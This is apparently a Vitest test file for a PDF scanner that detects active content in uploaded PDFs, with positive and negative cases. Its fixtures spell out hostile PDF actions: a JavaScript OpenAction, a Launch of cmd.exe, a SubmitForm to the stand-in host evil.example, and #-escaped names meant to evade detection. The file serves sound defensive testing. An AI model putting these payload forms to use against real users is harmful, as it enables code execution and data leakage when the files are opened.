import { describe, expect, it } from 'vitest';
import { samplePdf } from '../../../src/lib/articles/samplePdf.ts';
import { pdfHasActiveContent } from '../../../src/lib/media/pdf.ts';

const pdf = (body: string) => Buffer.from(`%PDF-1.4\n${body}\ntrailer << /Root 1 0 R >>\n%%EOF\n`, 'latin1');

describe('PDFs that run something when opened', () => {
  it('finds scripts, launch actions and form submissions in plain objects', () => {
    expect(pdfHasActiveContent(pdf('1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj'))).toBe(true);
    expect(pdfHasActiveContent(pdf('1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj'))).toBe(true);
    expect(pdfHasActiveContent(pdf('1 0 obj << /A << /S /SubmitForm /F (http://evil.example) >> >> endobj'))).toBe(true);
  });

  it('sees through #-escaped names', () => {
    expect(pdfHasActiveContent(pdf('1 0 obj << /S /J#61vaScr#69pt /J#53 (x) >> endobj'))).toBe(true);
  });

  it('passes ordinary documents, even when stream data holds the same bytes by chance', () => {
    expect(pdfHasActiveContent(samplePdf(['示例', '第一行']))).toBe(false);
    expect(pdfHasActiveContent(pdf('1 0 obj << /Length 8 >>\nstream\n/JS (x)\nendstream endobj'))).toBe(false);
    expect(pdfHasActiveContent(pdf('1 0 obj << /JSON (a name that only starts alike) >> endobj'))).toBe(false);
  });
});
